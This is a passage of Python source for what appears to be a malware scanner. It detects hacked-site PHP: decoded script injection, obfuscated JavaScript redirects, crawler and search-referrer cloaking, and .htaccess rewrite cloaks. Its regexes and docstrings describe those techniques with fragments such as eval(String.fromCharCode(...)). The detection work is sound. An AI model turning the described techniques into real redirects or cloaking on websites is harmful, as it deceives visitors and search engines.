    for idx in literals_holding(ctx, (b"location",), 5000)[:50]:
        lit = ctx.lx.value(idx).lower()
        if find(lit, b"<script") < 0:
            continue
        at = find(code, b"\x01%d\x01" % idx)
        inner = _JS_LOCATION_VAR.search(ctx.lx.raw_strings[idx].lower())
        if inner is not None:
            # the address interpolated: "<script>top.location.href='$go';</script>"
            if _decoded_address_var(ctx, inner.group(1)):
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 120))
            continue
        if _JS_LOCATION_FILLED.search(lit[-300:]) is None:
            continue
        end = find(code, b";", at)
        stmt = code[at : end if end >= 0 else at + 600]
        for d in itertools.islice(_DECODED_LITERAL.finditer(stmt), 5):
            folded = fold.fold_at(code, ctx.lx, at + d.start())
            if folded is not None and folded.value.lstrip().lower().startswith(WEB_SCHEMES[:2]):
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 120))
        # ... or a variable the file sets to such an address: $go = base64_decode('aHR0c...')
        glued = re.match(rb"\x01\d+\x01\s*\.\s*\$(" + NAME_P + rb")\b", stmt)
        if glued is not None and _decoded_address_var(ctx, glued.group(1)):
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 120))
    return None


# a decoding call that a print statement gives the page: echo base64_decode('PHNjcmlw...'),
# print(str_rot13(...)), die(gzinflate(base64_decode(...)))
_PRINTED_DECODING = tight(
    rb"(?<![\w$>:])(?:echo|print|printf|die|exit)\b\s*\(?\s*(?:@\s*)?"
    rb"((?:base64_decode|str_rot13|strrev|hex2bin|urldecode|rawurldecode|gzinflate|"
    rb"gzuncompress|gzdecode|convert_uudecode)\s*\()"
)
# a tag that loads a script or a frame from another host: <script src="//host/...">,
# <iframe src="https://host/...">
_REMOTE_TAG = tight(
    rb"<(?:script|iframe)\b[^>]{0,200}?\bsrc\s*=\s*['\"]?(?:https?:)?//[a-z0-9.-]"
)


@feature("printed_decoded_tag")
def _printed_decoded_tag(ctx: Ctx, rule: Rule) -> Hit | None:
    """A page that prints a <script> or <iframe> of another host that PHP decodes from a
    literal as it writes the page (``print(base64_decode("PHNjcmlwdCBzcmM9Ii8v..."))``):
    a script injected into every page it runs on, kept out of sight of a reader and of a
    search for its host. A site writes its own tags as they are; a decoded literal that
    prints text, an image or a style is not counted."""
    code = ctx.code
    for m in itertools.islice(prefiltered_finditer(_PRINTED_DECODING, code, ctx.first), 50):
        folded = fold.fold_at(code, ctx.lx, m.start(1))
        if folded is None:
            continue
        if _REMOTE_TAG.search(folded.value[:4000].lower()) is not None:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 120))
    return None


# PHP's echo in the page's HTML of a decoding call given a literal: <?php echo
# str_rot13('uggcf://...'); ?>, <?= base64_decode("aHR0c...") ?>
_ECHO_DECODED = tight(
    rb"<\?(?:php\s+(?:echo|print)\b|=)\s*(?:@\s*)?"
    rb"((?:base64_decode|str_rot13|strrev|hex2bin|urldecode|rawurldecode|convert_uudecode)"
    rb"\s*\(\s*(['\"])[^'\"\\]{1,2000}\2\s*\))",
    re.IGNORECASE,
)
# ... where the HTML before it is the address of a meta refresh or of a script's location
_REDIRECT_BEFORE = tight(
    rb"(?:http-equiv\s*=\s*['\"]?refresh['\"]?[^>]{0,200}?\burl\s*=\s*['\"]?"
    rb"|\blocation(?:\.href)?\s*=\s*['\"]|\blocation\.(?:replace|assign)\s*\(\s*['\"])\Z",
    re.IGNORECASE,
)
MAX_INLINE_ECHOES = 50


def _inline_decoded_redirect(ctx: Ctx) -> Hit | None:
    """A meta refresh or a script's location in the page's HTML whose address is PHP's echo
    of a decoding call given a literal that decodes to a web address."""
    data = ctx.data
    if find(data, b"<?") < 0 or (find(data, b"refresh") < 0 and find(data, b"location") < 0):
        return None
    for m in itertools.islice(_ECHO_DECODED.finditer(data), MAX_INLINE_ECHOES):
        if _REDIRECT_BEFORE.search(data[max(0, m.start() - 300) : m.start()]) is None:
            continue
        call = m.group(1)
        lx = lex(b"<?php " + call + b";")
        name = call[: call.find(b"(")].strip().lower()
        folded = fold.fold_at(lx.code, lx, max(0, find(lx.code, name)))
        if folded is not None and folded.value.lstrip().lower().startswith(WEB_SCHEMES[:2]):
            line = data.count(b"\n", 0, m.start()) + 1
            return Hit(line, excerpt(data[max(0, m.start() - 60) : m.end()]))
    return None


# a script's location set to a PHP variable the literal interpolates: location.href='$go'
_JS_LOCATION_VAR = tight(
    rb"(?:\blocation(?:\.href)?\s*=|location\.(?:replace|assign)\s*\()\s*['\"]?\{?\$("
    + NAME_P + rb")\b"
)


def _decoded_address_var(ctx: Ctx, name: bytes) -> bool:
    """Whether ``$name`` is set to a web address PHP decodes from a literal
    (``$go = base64_decode('aHR0cHM6...')``, str_rot13, hex2bin...)."""
    code = ctx.code
    for a in itertools.islice(re.finditer(rb"\$" + re.escape(name) + rb"\s*=(?![=>])\s*", code), 5):
        d = _DECODED_LITERAL.match(code, a.end())
        if d is None:
            continue
        folded = fold.fold_at(code, ctx.lx, a.end())
        if folded is not None and folded.value.lstrip().lower().startswith(WEB_SCHEMES[:2]):
            return True
    return False


# a decoding call given the encoded text itself (nothing PHP puts in as it writes the page)
_JS_DECODED_TEXT = (
    rb"(?:atob\s*\(\s*['\"][a-z0-9+/]{2}|unescape\s*\(\s*['\"]%[0-9a-f]{2}"
    rb"|string\.fromcharcode\s*\(\s*\d)"
)
# the decoding call may be wrapped or named through window: window["location"]["href"] =
# decodeURIComponent(escape(window.atob("aHR0c...")))
_JS_UNWRAP = rb"(?:(?:decodeuricomponent|unescape|escape)\s*\(\s*|(?:window|self)\.){0,4}"
# obfuscated JavaScript run in the page: eval(String.fromCharCode(...)), document.write(
# unescape('%3C...')), eval(atob(...)), eval(unescape(...))
_JS_OBFUSCATED = tight(
    rb"<script[^>]*>[^\x00]{0,400}?(?:eval\s*\(\s*(?:string\.fromcharcode|unescape|atob|"
    rb"decodeuricomponent)\s*\(|document\.write\s*\(\s*(?:unescape|atob|string\.fromcharcode)"
    rb"\s*\(|"
    # the browser sent to an address the page decodes from text written into it:
    # location = atob('aHR0c...'), unescape('%68...'), String.fromCharCode(104, ...) (not a
    # value PHP encodes as it writes the page: atob('$back'), the visitor's own return URL)
    rb"(?:\blocation|\[\s*['\"]location['\"]\s*\])(?:\.href|\[\s*['\"]href['\"]\s*\])?\s*=\s*"
    + _JS_UNWRAP + _JS_DECODED_TEXT + rb"|"
    rb"\blocation\.(?:replace|assign)\s*\(\s*" + _JS_UNWRAP + _JS_DECODED_TEXT + rb")"
)
_JS_WORDS = (b"fromCharCode", b"unescape(", b"atob(", b"decodeURIComponent(")


@feature("js_obfuscated_inject")
def _js_obfuscated_inject(ctx: Ctx, rule: Rule) -> Hit | None:
    """A <script> written by PHP (a string or the file's HTML) that decodes and runs hidden
    JavaScript (eval(String.fromCharCode(...)), document.write(unescape('%3C...'))), or
    sends the browser to an address it decodes (``location = atob('aHR0c...')``): the
    injected redirects and skimmers of hacked sites. Libraries ship such code as .js files,
    not inside PHP."""
    data = ctx.data
    # "<script" first: one search where most files have it not (then the words' four)
    if not _has_script(ctx) or not any(find(data, w) >= 0 for w in _JS_WORDS):
        return None
    return _in_page_text(ctx, _JS_OBFUSCATED)


# a script that sends the browser to a literal web address: location = 'http://...'
_JS_REMOTE_LOCATION = tight(
    rb"<script[^>]*>[^\x00]{0,300}?(?:window|document|top|self)\.location(?:\.href)?\s*=\s*"
    rb"['\"]https?://|<script[^>]*>[^\x00]{0,300}?location\.(?:replace|assign)\s*\(\s*['\"]https?://"
)
# ... only for some visitors: once (a cookie it sets), or by referrer / user agent (a login
# page that reads its own cookie and sends the visitor to the login form does neither)
_VISITOR_GATE = (b"setcookie", b"http_referer", b"http_user_agent")


@feature("js_gated_redirect")
def _js_gated_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
    """A <script> written by PHP that sends the browser to a literal web address, in a file
    whose PHP chooses the visitors it does it to (once per visitor through a cookie, by
    referrer or user agent): the injected redirect of a hacked site, which its owner, a
    returning visitor, does not see. A moved page redirects everyone alike."""
    if not _has_script(ctx) or find(ctx.data, b"location") < 0:
        return None
    text = string_text(ctx)
    if not any(has_word(ctx, w) or find(text, w) >= 0 for w in _VISITOR_GATE):
        # the script chooses by itself: it reads the referrer, user agent or its cookie
        # before it sends the browser away
        gated = prefiltered_search(_JS_GATE_WORDS, text)
        return _in_page_text(ctx, _JS_SELF_GATED) if gated else None
    for m in itertools.islice(_JS_REMOTE_LOCATION.finditer(text), 20):
        if _SAME_PATH_ELSEWHERE.match(text, m.end()) is None:
            return string_hit(ctx, m)
    return _js_location_from_var(ctx)


# a script's literal that stops where the address it sends the browser to begins
# ('<script> ... window.location.href = "'), the address glued on after it
_JS_LOCATION_OPEN = tight(
    rb"<script[^>]*>[^\x00]{0,300}?(?:(?:(?:window|document|top|self)\.)?location(?:\.href)?"
    rb"\s*=\s*|location\.(?:replace|assign)\s*\(\s*)['\"]?\s*$"
)
_GLUED_VAR = tight(rb"\s*\.\s*\$(" + NAME_P + rb")\s*\.")
_VISITOR_PATH_AFTER = tight(
    rb"['\"]?\s*\+\s*(?:(?:window|document|self|top)\.)?location\.pathname\b"
)


def _js_location_from_var(ctx: Ctx) -> Hit | None:
    """A <script> literal that sends the browser to the address a variable holds, glued
    on (``'<script>location.href = "' . $offer . '";</script>'``), where the variable is
    given one literal web address: the same redirect as one written in the script."""
    code = ctx.code
    value = ctx.lx.value
    for p in itertools.islice(PLACEHOLDER.finditer(code), 2000):
        lit = value(int(p.group(1))).lower()
        if find(lit, b"location") < 0 or _JS_LOCATION_OPEN.search(lit) is None:
            continue
        glued = _GLUED_VAR.match(code, p.end())
        if glued is None:
            continue
        after = PLACEHOLDER.match(code, glued.end() + len(code[glued.end() :]) - len(
            code[glued.end() :].lstrip()
        ))
        if after is not None and _VISITOR_PATH_AFTER.match(value(int(after.group(1))).lower()):
            continue  # the same page on another host of the site (+ location.pathname)
        given = var_assigns(code, glued.group(1), TAIL_LITERAL, 3)
        if len(given) == 1 and value(int(given[0][1].group(1))).lower().startswith(
            (b"http://", b"https://")
        ):
            at = p.start()
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, glued.end() + 20))
    return None


# the bare address of a host followed by the visitor's own path ("https://amp.example.com" +
# location.pathname): the same page of the site on another of its hosts (a mobile or AMP
# copy, a move to a new domain), not a page of the operator's
_SAME_PATH_ELSEWHERE = tight(
    rb"[a-z0-9.-]{1,100}(?::\d+)?/?['\"]\s*\+\s*(?:(?:window|document|self|top)\.)?location\.pathname\b"
)


_JS_GATE_WORDS = tight(rb"document\.referrer|navigator\.useragent|document\.cookie")
_JS_SELF_GATED = tight(
    rb"<script[^>]*>[^\x00]{0,400}?(?:document\.referrer|navigator\.useragent|document\.cookie)"
    rb"[^\x00]{0,400}?(?:(?:window|document|top|self)\.location(?:\.href)?\s*=\s*|"
    rb"location\.(?:replace|assign)\s*\(\s*)['\"]https?://"
)


# ------------------------------------------------------------------------ crawlers sent away
# the words of a test for crawlers: bot, spider, crawler, Googlebot, Slurp...
_BOT_WORDS = tight(rb"bot\b|bot\||bot\)|crawl|spider|slurp|google|bing|yandex|baidu")
_LOCATION_JS = tight(rb"\blocation(?:\.href)?\s*=|\blocation\.(?:replace|assign)\s*\(")


def _offsite(target: bytes) -> bool:
    """Whether a redirect's target (the text after ``Location:`` or ``location =``) leaves
    the site: a web address, or an address glued on from a variable (nothing or a variable
    written in the literal). A path of the site's own (``/en/``, ``?lang=``) does not."""
    target = target.strip().lstrip(b"'\"").strip()
    return not target or target.startswith((b"http:", b"https:", b"//", b"$", b"{$"))


def _redirects(ctx: Ctx, block: bytes) -> int:
    """Where, in ``block`` (lexed code), a literal sends the browser off the site: a
    ``header("Location: ...")`` to a web address or to one glued on, or a script that sets
    ``location`` to such an address; -1 if none does."""
    raw = ctx.lx.raw_strings
    for q in itertools.islice(PLACEHOLDER.finditer(block), 40):
        lit = raw[int(q.group(1))].lower()
        stripped = lit.lstrip()
        if (
            stripped.startswith(b"location:")
            and block[: q.start()].rstrip().endswith(b"(")
            and _offsite(stripped[9:])
        ):
            return q.start()
        js = _LOCATION_JS.search(lit)
        if js is not None and _offsite(lit[js.end() :]):
            return q.start()
    return -1


@feature("crawler_redirect")
def _crawler_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
    """The user agent tested for crawlers (bot, spider, Googlebot...) and the visitors the
    test picks sent elsewhere by a redirect (``header('Location: ...')``, a script setting
    ``location``): search engines and people are shown different things, a doorway, or a
    phishing page that sends away the crawlers that would list or report it. Code that
    only leaves bots out (no statistics, ``exit``) does not redirect them."""
    if string_text(ctx).find(b"http_user_agent") < 0:
        return None
    code = ctx.code
    value = ctx.lx.value
    for start, args in calls_to(ctx, CRAWLER_TESTS, 100):
        parts = top_args(args)[:2]
        lits = [value(int(q.group(1))).lower() for q in itertools.islice(
            PLACEHOLDER.finditer(b" ".join(parts)), 4)]
        if not any(_BOT_WORDS.search(v) for v in lits) and not _bot_list(ctx, parts, start):
            continue
        block = _block_after(code, start)
        at = _redirects(ctx, block)
        if at >= 0:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
        # the bots leave (exit) and everyone else is sent away by the code that follows
        end = find(code, block, start) + len(block) if block else -1
        if (
            end > 0
            and _LEAVES.search(block) is not None
            and _redirects(ctx, code[end : end + 2000]) >= 0
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


_LEAVES = tight(rb"\b(?:exit|die)\b")


# a loop over a list: its list variable, and its item variable (whole: one run of name bytes,
# as ``$item\s*\)`` ends it); a loop has one "(", so no match holds the start of another
_FOREACH_ITEM = tight(
    rb"foreach\s*\(\s*\$(\w+)\s+as\s+(?:\$\w+\s*=>\s*)?\$([\w\x80-\xff]+)\s*\)"
)


def loops_with_item(code: bytes, var: bytes) -> Iterator[re.Match[bytes]]:
    """The ``foreach ($list as [$key =>] $var)`` loops of ``code``, in order (group 1: the
    list's name)."""
    return (m for m in _FOREACH_ITEM.finditer(code) if m.group(2) == var)


# a loop over a list written in its head: foreach (array('Googlebot', ...) as $bot)
_FOREACH_INLINE = tight(
    rb"foreach\s*\(\s*(?:array\s*\(|\[)([^;{}]{1,600}?)[)\]]\s+as\s+"
    rb"(?:\$\w+\s*=>\s*)?\$([\w\x80-\xff]+)\s*\)"
)


def _bot_list(ctx: Ctx, parts: list[bytes], start: int) -> bool:
    """One of a test's arguments is the loop variable over a list of crawler names
    (``$bots = ['Googlebot', 'Bingbot', ...]; foreach ($bots as $bot) stripos($ua, $bot)``,
    or the list written in the loop's head)."""
    code = ctx.code[:start]
    value = ctx.lx.value
    for part in parts:
        v = VAR.fullmatch(part.strip())
        if v is None:
            continue
        for m in itertools.islice(_FOREACH_INLINE.finditer(code, max(0, start - 1500)), 3):
            if m.group(2) != v.group(1):
                continue
            names = [value(int(q.group(1))).lower() for q in itertools.islice(
                PLACEHOLDER.finditer(m.group(1)), 40)]
            if sum(1 for n in names if _BOT_WORDS.search(n)) >= 2:
                return True
        for m in itertools.islice(loops_with_item(code, v.group(1)), 3):
            for _, a in var_assigns(code, m.group(1), TAIL_RHS, 3):
                names = [value(int(q.group(1))).lower() for q in itertools.islice(
                    PLACEHOLDER.finditer(a.group(1)), 40)]
                if sum(1 for n in names if _BOT_WORDS.search(n)) >= 2:
                    return True
    return False


# --------------------------------------------------------------------- search-referer redirect
_SEARCH_ENGINES = tight(rb"google|bing|yahoo|yandex|baidu|aol|ask\.com|duckduckgo")
# the referrer's host looked up in a list of search engines counts as a test too
# (in_array(parse_url($ref, PHP_URL_HOST), ['www.google.com', ...]))
_REFERER_TESTS = tuple(dict.fromkeys((*CRAWLER_TESTS, b"in_array", b"str_contains", b"strstr")))
# a Refresh header that sends the browser on: header('Refresh: 0; url=https://...')
_REFRESH_HEADER = tight(rb"refresh\s*:\s*\d*\s*;?\s*url\s*=\s*['\"]?https?:")
_REDIRECT = tight(
    rb"header\s*\(\s*\x01(\d+)\x01|(?:window|document|top)\.location(?:\.href)?\s*=\s*['\"]?https?:"
)


def _block_after(code: bytes, pos: int, span: int = 400) -> bytes:
    """The statement or the {...} block that the condition holding ``pos`` guards (up to
    2,000 bytes): the code run only when the test is true. ``span``: how far the condition
    may reach."""
    i = pos + close_paren(code[pos : pos + span])  # the end of the condition
    rest = code[i + 1 : i + 2000]
    body = rest.lstrip()
    if not body.startswith(b"{"):
        semi = find(body, b";")
        return body[: semi if semi >= 0 else len(body)]
    return body[: close_paren(body[1:], 123, 125) + 2]


# a loop or a mapping call over a list, with its item's name: foreach ($list as [$k =>] $item),
# array_filter($list, fn ($item) => ...) (groups 1/4: the list; 2 or 3, 5: the item's)
_LIST_WALK = tight(
    rb"foreach\s*\(\s*\$(\w+)\s+as\s+(?:\$(\w+)\s*=>\s*)?\$(\w+)\b|"
    rb"array_(?:filter|map|walk)\s*\(\s*\$(\w+)\s*,\s*(?:static\s+)?(?:fn|function)\s*"
    rb"\(\s*(?:[\w\\]+\s+)?\$(\w+)\b"
)
_WORD_NAME = tight(rb"\w+")


def _list_walked_by_regex(head: bytes, var: bytes) -> bytes | None:
    """:func:`_list_walked` with the pattern written for ``var`` (its reference)."""
    name = re.escape(var)
    over = re.search(
        rb"foreach\s*\(\s*\$(\w+)\s+as\s+(?:\$\w+\s*=>\s*)?\$" + name + rb"\b|"
        rb"array_(?:filter|map|walk)\s*\(\s*\$(\w+)\s*,\s*(?:static\s+)?(?:fn|function)\s*"
        rb"\(\s*(?:[\w\\]+\s+)?\$" + name + rb"\b",
        head,
    )
    return None if over is None else over.group(1) or over.group(2)


def _list_walked(head: bytes, var: bytes) -> bytes | None:
    """The name of the first list in ``head`` that a loop (``foreach ($list as $var)``, or
    ``as $var => $v``) or a mapping call (``array_filter($list, fn ($var) => ...)``) walks
    with ``$var``, without a pattern compiled per name. Where ``var`` is a run of word bytes,
    "$var\\b" is the word run after a "$" being ``var``; at each match of the pattern with
    the name captured, the name the loop may bind is the item's, or the key's (a key
    ``$var`` matches the per-name pattern with its optional ``$key =>`` left out)."""
    if _WORD_NAME.fullmatch(var) is None:
        return _list_walked_by_regex(head, var)
    at = 0
    while True:
        m = _LIST_WALK.search(head, at)
        if m is None:
            return None
        if m.group(1) is not None:
            if var == m.group(3) or var == m.group(2):
                return m.group(1)
        elif var == m.group(5):
            return m.group(4)
        at = m.start() + 1


def _test_literals(ctx: Ctx, args: bytes, start: int) -> list[bytes]:
    """The literals a test's arguments ``args`` (of the call at ``start``) compare with,
    lower-cased: its own, and those of the literal list a variable among them goes through
    (``foreach ($engines as $e) ... str_contains($ref, $e)``, ``array_filter($engines, fn
    ($e) => str_contains($ref, $e))``, the list written ``$engines = ['google.', ...]``, or
    in the loop itself: ``foreach (array('google.', ...) as $e)``)."""
    value = ctx.lx.value
    lits = [value(int(q.group(1))).lower() for q in itertools.islice(PLACEHOLDER.finditer(args), 4)]
    code = ctx.code
    for v in itertools.islice(VAR.finditer(args), 3):
        head = code[max(0, start - 600) : start]
        listed = _list_walked(head, v.group(1))
        if listed is None:
            # or a list written in the loop itself: foreach (array('google', ...) as $e)
            for w in _FOREACH_INLINE.finditer(head):
                if w.group(2) == v.group(1):
                    lits += [
                        value(int(q.group(1))).lower()
                        for q in itertools.islice(PLACEHOLDER.finditer(w.group(1)), 40)
                    ]
            continue
        made = search_named(rb"\s*=\s*(?:\[|array\s*\()([^;]{0,2000})", code, listed)
        if made is not None:
            lits += [
                value(int(q.group(1))).lower()
                for q in itertools.islice(PLACEHOLDER.finditer(made.group(2)), 40)
            ]
    return lits


def _search_referer_tests(ctx: Ctx) -> Iterator[int]:
    """Where the referrer is tested for a search engine: a test call (strpos, preg_match,
    in_array...) that compares with a search engine's name (in its own literals or in the
    literal list a loop walks), in a file that reads ``HTTP_REFERER``, the referrer read
    close by (``$_SERVER['HTTP_REFERER']``, ``getenv('HTTP_REFERER')``, a variable called
    after it)."""
    if find(string_text(ctx), b"http_referer") < 0:
        return
    code = ctx.code
    value = ctx.lx.value
    for start, args in calls_to(ctx, _REFERER_TESTS, 100):
        lits = _test_literals(ctx, args, start)
        if not any(_SEARCH_ENGINES.search(v) for v in lits):
            continue
        head = code[max(0, start - 300) : start + 200]
        if head.find(b"referer") < 0 and not any(
            value(int(q.group(1))).lower().find(b"http_referer") >= 0
            for q in itertools.islice(PLACEHOLDER.finditer(head), 12)
        ):
            continue
        yield start


@feature("search_referer_redirect")
def _search_referer_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
    """The referrer tested for a search engine (the visitor came from Google, Bing...) and
    such visitors sent elsewhere by a redirect to a literal web address: SEO spam that
    ranks the hacked site and sells its search traffic (the site's own visitors, who come
    without such a referrer, see nothing)."""
    code = ctx.code
    value = ctx.lx.value
    for start in _search_referer_tests(ctx):
        window = _block_after(code, start)
        for r in _REDIRECT.finditer(window):
            if r.group(1) is not None:
                target = value(int(r.group(1))).lower().lstrip()
                if not (
                    target.startswith(b"location:") and target[9:].lstrip()[:4] == b"http"
                ) and _REFRESH_HEADER.match(target) is None:
                    continue
            at = start + r.start()
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(start, at + 60))
        # the redirect printed for the browser: a meta refresh or a script that sends it on
        for q in itertools.islice(PLACEHOLDER.finditer(window), 20):
            if _PRINTED_REDIRECT.search(value(int(q.group(1))).lower()) is not None:
                at = start + q.start()
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(start, at + 60))
    return None


# a page that sends the browser to another site: <meta http-equiv="refresh" content="0;url=
# https://...">, location.href = 'https://...', location.replace("https://...")
_PRINTED_REDIRECT = tight(
    rb"http-equiv\s*=\s*['\"]?refresh[^>]{0,80}url\s*=\s*['\"]?https?://|"
    rb"location(?:\.href)?\s*=\s*['\"]https?://|location\.(?:replace|assign)\s*\(\s*['\"]https?://"
)


# the visitor's user agent or referrer read: $_SERVER['HTTP_USER_AGENT'], getenv('HTTP_REFERER')
_VISITOR_KEY = tight(rb"(?:\$_server\s*\[|getenv\s*\(\s*)\s*\x01(\d+)\x01")
_PACKED = tight(rb"(?:http_build_query|json_encode|curlopt_postfields)\s*[(,]")
_DECODED_REPLY = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*@?json_decode\s*\(\s*\$(" + NAME_P + rb")"
)
_IF_AT = tight(rb"(?<![\w$>:])if\s*\(")


def _sends_visitor(ctx: Ctx) -> int:
    """Where the visitor's user agent and referrer are packed together into what the script
    sends (``http_build_query(array('ref' => $_SERVER['HTTP_REFERER'], 'useragent' =>
    $_SERVER['HTTP_USER_AGENT'], ...))``, a JSON body, CURLOPT_POSTFIELDS); -1 if not."""
    code = ctx.code
    value = ctx.lx.value
    for p in itertools.islice(prefiltered_finditer(_PACKED, code, ctx.first), 20):
        args = code[p.end() : p.end() + 600]
        args = args[: close_paren(args)]
        # and what the variables it packs were set to, once ($ua = $_SERVER['HTTP_USER_AGENT'])
        held = [args] + [
            given[0][1].group(1)
            for v in itertools.islice(VAR.finditer(args), 8)
            if len(given := var_assigns(code, v.group(1), TAIL_RHS, 2)) == 1
        ]
        keys = {
            value(int(k.group(1))).strip().lower()
            for text in held
            for k in _VISITOR_KEY.finditer(text)
        }
        if b"http_user_agent" in keys and b"http_referer" in keys:
            return p.start()
    return -1


# an answer's key that names the unwanted visitors: bots, fraud, a risk score
_BOT_VERDICT = tight(rb"bot|crawler|fraud|risk|spam")
# a test that the key is false: the people picked, not the bots
_NEGATIVE_TEST = tight(rb"!|\bfalse\b|==\s*0\b|\bempty\s*\(|\bnull\b")


def _bots_picked(ctx: Ctx, cond: bytes) -> bool:
    """``cond`` (not negated) tests a key of the answer that names bots or fraud (``if
    ($json['bot'] == true)``): the bots are sent away (a fraud filter on a paid landing
    page shows them a captcha); a cloak sends the people on and keeps the bots."""
    if _NEGATIVE_TEST.search(cond) is not None:
        return False
    value = ctx.lx.value
    return any(
        _BOT_VERDICT.search(value(int(q.group(1))).lower()) is not None
        for q in itertools.islice(PLACEHOLDER.finditer(cond), 6)
    )


@feature("remote_cloak_verdict")
def _remote_cloak_verdict(ctx: Ctx, rule: Rule) -> Hit | None:
    """A cloaking service's client: the visitor's user agent and referrer sent together to a
    web service, and the service's decoded answer decides a redirect off the site (``if
    ($json['status'] == 1) header('Location: ' . $target);``): the service tells bots and
    reviewers from real visitors, who are sent on. Analytics send the same data but do not
    redirect on what comes back; a geo-IP lookup sends the address alone."""
    text = string_text(ctx)
    if find(text, b"http_referer") < 0 or find(text, b"http_user_agent") < 0:
        return None
    sent = _sends_visitor(ctx)
    if sent < 0:
        return None
    code = ctx.code
    for d in itertools.islice(_DECODED_REPLY.finditer(code), 10):
        reply = b"$" + d.group(1)
        for c in itertools.islice(_IF_AT.finditer(code, d.end()), 10):
            cond = code[c.end() : c.end() + 300]
            cond = cond[: close_paren(cond)]
            if cond.find(reply) < 0 or _bots_picked(ctx, cond):
                continue
            at = _redirects(ctx, _block_after(code, c.end()))
            if at >= 0:
                return Hit(ctx.line_of_code(c.start()), ctx.excerpt_code(c.start(), c.start() + 80))
    return None


# a rewrite condition on where the visitor comes from or what it is: a search engine's
# referrer, a crawler's user agent (not negated: "!google" is hotlink protection), a crawler's
# word starting in the first 200 bytes of the condition and the line ending at most 200 bytes
# after it (at a newline or a "\\n" written in a single-quoted literal; a lone backslash, as
# in an escaped dot, is part of the line)
_REWRITE_HEAD = tight(rb"rewritecond\s+%\{http_(?:referer|user_agent)\}\s+(?![\s!])")
# each place a word starts (no word starts another: one match per place)
_CRAWLER_AT = tight(rb"(?=(google|bing|yahoo|yandex|baidu|bot|crawl|spider|slurp))")
_COND_LINE_MOST = 200 + 6 + 200  # the bytes before the word, the longest word, the bytes after
# more conditions, then the rule they guard, which sends the request to another site; not
# one that refuses it ("- [F]") or shows a page of the site's own ("/blocked.html"): a
# bad-bot blocker
_REWRITE_MORE = tight(rb"(?:\s*rewritecond(?:[^\n\\]|\\(?!n)){0,200}(?:\n|\\n))*\s*")
_REWRITE_RULE = tight(rb"rewriterule\s+\S+\s+https?://")


def _rewrite_cloak(text: bytes) -> bool:
    """Whether ``text`` (lower case) holds a referrer or user-agent condition naming a
    search engine or crawler, then more conditions and the RewriteRule they guard: what one
    pattern of the three parts found (the tests keep it), read once. The pattern tried each
    crawler word of a line against the rest of the line, and each condition against all
    the ones after it (a literal of many "RewriteCond %{HTTP_REFERER} botbot..." took a
    second); a chain of conditions that ends in no such rule ends so for each one in it."""
    failed_to = 0
    for head in _REWRITE_HEAD.finditer(text):
        at = head.end()
        if at < failed_to:
            continue  # its line is in a chain already read: the rule after it is the same
        window = at + _COND_LINE_MOST + 2
        ends = [
            e for e in (find(text, b"\n", at, window), find(text, b"\\n", at, window)) if e >= 0
        ]
        if not ends:
            continue
        end = min(ends)
        if end - at > _COND_LINE_MOST:
            continue
        after = end + 1 if text[end] == 10 else end + 2
        words = _CRAWLER_AT.finditer(text, at, min(end, at + 200 + 6))
        if not any(w.start() - at <= 200 and end - w.end(1) <= 200 for w in words):
            continue
        more = _REWRITE_MORE.match(text, after)
        assert more is not None  # it matches the empty string
        if _REWRITE_RULE.match(text, more.end()) is not None:
            return True
        failed_to = more.end()
    return False


_HTACCESS_WRITES = (b"file_put_contents", b"fopen", b"fwrite", b"fputs")


@feature("htaccess_search_cloak")
def _htaccess_search_cloak(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that writes an .htaccess whose rules pick visitors by a search engine's
    referrer or a crawler's user agent (``RewriteCond %{HTTP_REFERER} google`` then a
    RewriteRule): the site's search traffic sent to the operator's pages, or crawlers given a
    doorway, by the web server itself. A site's rewrite rules route by path; a security
    plugin blocks bad bots, it does not send search visitors elsewhere."""
    text = string_text(ctx)
    if find(text, b".htaccess") < 0 or find(text, b"rewritecond") < 0:
        return None
    value = ctx.lx.value
    if not any(
        _rewrite_cloak(value(i).lower())
        for i in literals_holding(ctx, [b"rewritecond"], 2000)
    ):
        return None
    for start, args in calls_to(ctx, _HTACCESS_WRITES, 40):
        parts = top_args(args)
        if not parts:
            continue
        target = parts[0]
        v = VAR.fullmatch(target.strip())
        if v is not None:  # the path in a variable set once: $f = DOCROOT . '/.htaccess'
            given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 2)
            target = given[0][1].group(1) if len(given) == 1 else b""
        if any(
            value(int(q.group(1))).lower().find(b".htaccess") >= 0
            for q in itertools.islice(PLACEHOLDER.finditer(target), 6)
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# ------------------------------------------------------------- WordPress hooks that write the page
# the hooks that print into every page's head or footer (site, admin, login)
_PAGE_HOOKS = frozenset({
    b"wp_head", b"wp_footer", b"wp_body_open", b"wp_print_scripts", b"wp_print_footer_scripts",
    b"admin_head", b"admin_footer", b"login_head", b"login_footer", b"login_enqueue_scripts",
})  # fmt: skip
# a statement that prints: echo/print/printf/die/exit and what follows, up to its ";"
_OUTPUT = tight(rb"(?<![\w$>:])(?:echo|print|printf|die|exit)\b([^;]{0,400})")
_PAGE_DECODE = tight(
    rb"(?<![\w$>:])(?:base64_decode|str_rot13|gzinflate|gzuncompress|hex2bin|strrev|"
    rb"convert_uudecode)\s*\("
)
_PAGE_FETCH = tight(
    rb"(?:file_get_contents|wp_remote_get|wp_remote_post|curl_init|fopen|file)"
    rb"\s*\(\s*\x01(\d+)\x01"
)


# what may wrap the printed value and keep it the same text (a decoder chain, a body read)
_KEEPS = tight(
    rb"[\s@(]*(?:(?:" + KEEP + rb"|wp_remote_retrieve_body)\s*\(\s*@?)*"
)


# a block hidden from the visitor (off screen, not displayed, no size) that holds links to
# other sites: links shown to search engines only
_HIDDEN_LINKS = tight(
